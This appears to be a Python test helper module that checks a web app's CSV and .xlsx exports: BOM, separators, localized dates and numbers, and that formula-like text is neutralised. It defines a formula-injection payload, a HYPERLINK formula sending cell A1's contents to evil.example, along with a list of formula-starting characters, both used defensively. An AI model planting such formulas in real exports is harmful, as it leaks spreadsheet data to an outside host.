"""Reading exports as a person's spreadsheet would: the CSV (BOM, separator) and the .xlsx."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime

import openpyxl
from werkzeug.test import TestResponse

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def csv_rows(response: TestResponse, delimiter: str) -> list[list[str]]:
    """The CSV's rows as Excel reads them: UTF-8 after the BOM, `delimiter` between fields."""
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))
    assert len(rows[0]) > 1, f"the header is not split by {delimiter!r}: {rows[0]}"
    return rows


def xlsx_rows(response: TestResponse) -> list[list[object]]:
    """The first sheet's rows as openpyxl opens them (blank cells as None)."""
    assert response.status_code == 200, response.status_code
    assert response.mimetype == XLSX
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    sheet = book.worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"a formula in {cell.coordinate}: {cell.value}"
    return [[_excel_text(v) for v in row] for row in sheet.iter_rows(values_only=True)]


def _excel_text(value: object) -> object:
    """Text as Excel shows it: XlsxWriter writes control characters as `_x000D_` escapes, which
    Excel reads back as the character and openpyxl leaves as they are."""
    if isinstance(value, str):
        return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)
    return value


def _as_csv_text(value: object, lang: str) -> set[str]:
    """What the CSV may show for an .xlsx cell (a typed value there, text here)."""
    if value is None:
        return {""}
    if isinstance(value, datetime):  # openpyxl reads dates and times as datetimes
        day = value.strftime("%Y. %m. %d." if lang == "hu" else "%Y-%m-%d")
        return {day, value.strftime("%Y. %m. %d. %H:%M" if lang == "hu" else "%Y-%m-%d %H:%M")}
    if isinstance(value, date):
        return {value.strftime("%Y. %m. %d." if lang == "hu" else "%Y-%m-%d")}
    if isinstance(value, float) and not value.is_integer():
        text = f"{value:g}"
        return {text.replace(".", ",") if lang == "hu" else text}
    if isinstance(value, int | float):
        return {str(int(value))}
    text = str(value)
    return {text, "'" + text}  # the CSV neutralises formula-like text with a leading '


def assert_same_table(
    csv_table: list[list[str]], xlsx_table: list[list[object]], lang: str
) -> None:
    """The .xlsx holds the CSV's headers and rows, cell for cell."""
    assert xlsx_table[0] == csv_table[0]
    assert len(xlsx_table) == len(csv_table)
    for y, (text_row, typed_row) in enumerate(zip(csv_table, xlsx_table, strict=True)):
        assert len(typed_row) == len(text_row), y
        for x, (text, typed) in enumerate(zip(text_row, typed_row, strict=True)):
            assert text in _as_csv_text(typed, lang), (y, x, text, typed)


def assert_no_formula(table: list[list[str]], value: str) -> None:
    """`value` is in the CSV as text (prefixed with '), and no cell starts a formula."""
    cells = [cell for row in table for cell in row]
    assert "'" + value in cells, (value, table[:3])
    bad = [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert not bad, f"formulas handed to a spreadsheet: {bad}"
